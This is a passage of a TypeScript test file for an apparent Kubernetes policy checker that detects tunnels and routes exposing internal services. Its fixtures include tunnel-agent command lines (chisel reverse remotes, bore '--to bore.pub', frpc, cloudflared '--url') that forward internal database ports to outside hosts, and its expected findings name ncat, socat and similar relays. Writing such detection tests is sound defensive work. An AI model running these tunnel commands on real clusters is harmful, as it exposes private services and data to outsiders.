    expect(Object.isFrozen(a) && Object.isFrozen(a.keys)).toBe(true);
    // An object naming many namespaces keeps its own facts, complete (the shared table stays small).
    const many = Array.from({ length: 200 }, (_, i) => ({ namespace: `team-${i}` }));
    const wide = { kind: 'ConfigMap', metadata: { name: 'w', namespace: 'team-a' }, data: { many } };
    const w1 = partitionFacts(res(wide));
    const w2 = partitionFacts(res(structuredClone(wide)));
    expect(w1.keys).toHaveLength(201);
    expect(w2.keys).toEqual(w1.keys);
    expect(w2).not.toBe(w1);
  });

  it('namespace keys over-approximate: own namespace or default, every namespace field, ExternalName labels', () => {
    expect(namespaceKeys({ kind: 'Service', metadata: { name: 'x' } })).toEqual(['default']);
    expect(namespaceKeys({ kind: 'ConfigMap', metadata: { name: 'x', namespace: 'n' } })).toEqual(['n']);
    // A cluster-scoped object joins nothing by its (absent) namespace; a Namespace joins its own.
    expect(namespaceKeys({ kind: 'ClusterSecretStore', metadata: { name: 'x' } })).toEqual([]);
    expect(namespaceKeys({ kind: 'Namespace', metadata: { name: 'team-a' } })).toEqual(['team-a']);
    expect(
      namespaceKeys({
        kind: 'Service',
        metadata: { name: 's', namespace: 'a' },
        spec: { type: 'ExternalName', externalName: 'db.B.svc.cluster.local.' },
      }),
    ).toEqual(['a', 'db', 'b', 'svc', 'cluster', 'local']);
    expect(
      namespaceKeys({ kind: 'X', metadata: { namespace: 'a' }, spec: { x: [{ y: { namespace: 'q' } }] } }),
    ).toEqual(['a', 'q']);
    expect(
      namespaceKeys({
        kind: 'VirtualService',
        metadata: { name: 'v' },
        spec: {
          hosts: ['x.example.org'],
          tcp: [{ route: [{ destination: { host: 'db.Team-B.svc.cluster.local' } }] }],
        },
      }),
    ).toEqual(['default', 'db', 'team-b', 'svc', 'cluster', 'local']);
    // An Emissary Mapping's service host (scheme and port dropped), a Gloo Upstream's service namespace, the entries
    // of ingress-nginx's tcp-services ConfigMap (another ConfigMap's values name nothing).
    expect(namespaceKeys({ kind: 'Mapping', spec: { service: 'https://db.Team-C:5432/x' } })).toEqual([
      'default',
      'db',
      'team-c',
    ]);
    expect(
      namespaceKeys({ kind: 'Upstream', metadata: { namespace: 'gloo' }, spec: { kube: { serviceNamespace: 'c' } } }),
    ).toEqual(['gloo', 'c']);
    expect(
      namespaceKeys({ kind: 'ConfigMap', metadata: { name: 'tcp-services', namespace: 'n' }, data: { 1: 'c/db:1' } }),
    ).toEqual(['n', 'c']);
    expect(
      namespaceKeys({ kind: 'ConfigMap', metadata: { name: 'settings', namespace: 'n' }, data: { 1: 'c/db:1' } }),
    ).toEqual(['n']);
    // Hand-written Endpoints join by namespace ("default" without one); a Gloo static Upstream's hosts, a Gloo route's
    // upstream names (every prefix up to a dash or underscore may be the namespace of a discovered Upstream).
    expect(namespaceKeys({ kind: 'Endpoints', metadata: { name: 'x' } })).toEqual(['default']);
    expect(
      namespaceKeys({
        kind: 'Upstream',
        metadata: { namespace: 'g' },
        spec: { static: { hosts: [{ addr: 'db.C.svc' }] } },
      }),
    ).toEqual(['g', 'db', 'c', 'svc']);
    expect(
      namespaceKeys({
        kind: 'RouteTable',
        metadata: { namespace: 'g' },
        spec: { routes: [{ routeAction: { single: { upstream: { name: 'team-c_db-5432' } } } }] },
      }),
    ).toEqual(['g', 'team', 'team-c', 'team-c_db']);
    expect(
      namespaceKeys({
        kind: 'Gateway',
        metadata: { namespace: 'g' },
        spec: { tcpGateway: { tcpHosts: [{ destination: { single: { upstream: { name: 'c-db-1' } } } }] } },
      }),
    ).toEqual(['g', 'c', 'c-db']);
    // A cloudflared tunnel's config (YAML or JSON; a Secret's data decoded) and its command line's --url.
    const config = 'ingress:\n  - hostname: x\n    service: tcp://db.Team-C.svc:5432\n  - {service: "http://api.d"}\n';
    expect(namespaceKeys({ kind: 'ConfigMap', metadata: { namespace: 'n' }, data: { 'config.yaml': config } })).toEqual(
      ['n', 'db', 'team-c', 'svc', 'api', 'd'],
    );
    const encoded = Buffer.from(JSON.stringify({ ingress: [{ service: 'tcp://db.e:1' }] })).toString('base64');
    expect(namespaceKeys({ kind: 'Secret', metadata: { namespace: 'n' }, data: { c: encoded } })).toEqual([
      'n',
      'db',
      'e',
    ]);
    const pod = (args: string[], env: unknown[] = []) => ({
      kind: 'Deployment',
      metadata: { namespace: 'n' },
      spec: { template: { spec: { containers: [{ name: 'c', args, env }] } } },
    });
    expect(namespaceKeys(pod(['tunnel', '--url', 'tcp://db.f:1']))).toEqual(['n', 'db', 'f']);
    expect(namespaceKeys(pod(['tcp', 'db.i:5432']))).toEqual(['n', 'db', 'i']);
    expect(
      namespaceKeys({ kind: 'AgentEndpoint', metadata: { name: 'a' }, spec: { upstream: { url: 'tcp://db.j:1' } } }),
    ).toEqual(['default', 'db', 'j']);
    expect(namespaceKeys({ kind: 'Tunnel', metadata: { namespace: 'n' }, spec: { forwardsTo: 'db.K.svc:1' } })).toEqual(
      ['n', 'db', 'k', 'svc'],
    );
    expect(namespaceKeys(pod(['tunnel', '--url=http://db.g'], [{ name: 'TUNNEL_URL', value: 'db.h:1' }]))).toEqual([
      'n',
      'db',
      'g',
      'h',
    ]);
    // Other tunnel agents: a chisel reverse remote's parts, bore's -l, an inlets upstream mapping, frpc's -i in a shell
    // script (a dot-less value is a Service of the object's own namespace: no key), an frpc configuration's localIP.
    expect(namespaceKeys(pod(['client', 'https://t', 'R:1:db.p:5432', 'R:2:local:1']))).toEqual(['n', 'db', 'p']);
    expect(namespaceKeys(pod(['local', '5432', '-l', 'db.q', '--to', 'bore.pub']))).toEqual(['n', 'db', 'q']);
    expect(namespaceKeys(pod(['http', 'client', '--upstream=a.example.com=http://db.r:1,http://api']))).toEqual([
      'n',
      'client',
      'db',
      'r',
    ]);
    expect(namespaceKeys(pod(['exec frpc tcp -i "db.s" -l 5432 -r 6000']))).toEqual(['n', 'db', 's']);
    const frpc = 'serverAddr = "frp.example.com"\n[[proxies]]\nlocalIP = "db.T"\nlocalPort = 5432\n';
    expect(namespaceKeys({ kind: 'ConfigMap', metadata: { name: 'x' }, data: { 'frpc.toml': frpc } })).toEqual([
      'default',
      'db',
      't',
    ]);
    const proxies = '[db]\ntype = tcp\nlocal_ip = db.u\nremote_port = 6000\n'; // a file the configuration includes
    expect(namespaceKeys({ kind: 'Secret', metadata: { namespace: 'n' }, stringData: { 'db.ini': proxies } })).toEqual([
      'n',
      'db',
      'u',
    ]);
  });

  it('reports exactly what one evaluation per env reports', async () => {
    const overlays = hostileEnv();
    const whole = (await runOn(createPolicyCheck({ partition: false }), overlays)).map(brief).sort();
    const parts = (await runOn(createPolicyCheck(), overlays)).map(brief).sort();
    const rules = new Set(whole.map((b) => (JSON.parse(b) as string[])[0]));
    for (const id of [
      'KFM-TM-001',
      'KFM-TM-005',
      'KFM-TM-006',
      'KFM-TM-010',
      'KFM-TM-012',
      'KFM-TM-015',
      'KFM-TM-002',
      'KFM-RBAC-005',
      'KFM-RBAC-006',
      'KFM-FK-001',
    ])
      expect(rules).toContain(id);
    // The routes joined by a Mapping host, a Gloo Upstream and a tcp-services entry are found; so are a cloudflared
    // tunnel's (config and --url), Gloo's discovered and static Upstreams, hand-written Endpoints without a namespace.
    const routes = whole.map((b) => JSON.parse(b) as string[]).filter((b) => b[0] === 'KFM-TM-001');
    expect(routes.map((b) => `${b[2]}/${b[3]}`).sort()).toEqual([
      'AgentEndpoint/db',
      'CloneSet/cloudflared',
      'ConfigMap/cloudflared',
      'ConfigMap/frpc',
      'ConfigMap/gost-config',
      'ConfigMap/proxy-config',
      'ConfigMap/proxy-config',
      'ConfigMap/rathole',
      'ConfigMap/ssh-config',
      'ConfigMap/tcp-services',
      'Deployment/agents',
      'Deployment/agents',
      'Deployment/agents',
      'Deployment/agents',
      'Deployment/cloudflared',
      'Deployment/gost',
      'Deployment/ncat',
      'Deployment/pf-pod',
      'Deployment/pf-svc',
      'Deployment/socat',
      'Deployment/ssh',
      'Deployment/ssh-option',
      'Deployment/zrok',
      'Gateway/tcp',
      'HTTPRoute/direct',
      'Ingress/alias',
      'Ingress/legacy',
      'Ingress/snippet',
      'Job/copy',
      'Mapping/db',
      'Route/to-db',
      'RouteGroup/db',
      'RouteTable/db',
      'TCPProxy/db',
      'VirtualService/db',
      'VirtualService/db',
      'VirtualService/db',
    ]);
    expect(parts).toEqual(whole);
  });

  it('reports the same findings, in the same order, from its worker thread as in this process', async () => {
    const overlays = hostileEnv();
    const here = (await runOn(createPolicyCheck({ offThread: false }), overlays)).map(brief);
    const load = vi.spyOn(SandboxedPolicy, 'load');
    const worker = (await runOn(createPolicyCheck({ offThread: true }), overlays)).map(brief);
    expect(load).toHaveBeenCalledTimes(1); // the worker ran it: no fallback to this process
    await expect(load.mock.results[0].value).resolves.toBeInstanceOf(SandboxedPolicy);
    load.mockRestore();
    expect(here.length).toBeGreaterThan(5);
    expect(worker).toEqual(here);
    // The whole env in one input, off the thread too (a bundle whose rules were not audited).
    const whole = (await runOn(createPolicyCheck({ partition: false, offThread: true }), overlays)).map(brief);
    expect(whole.sort()).toEqual([...here].sort());
  });
});
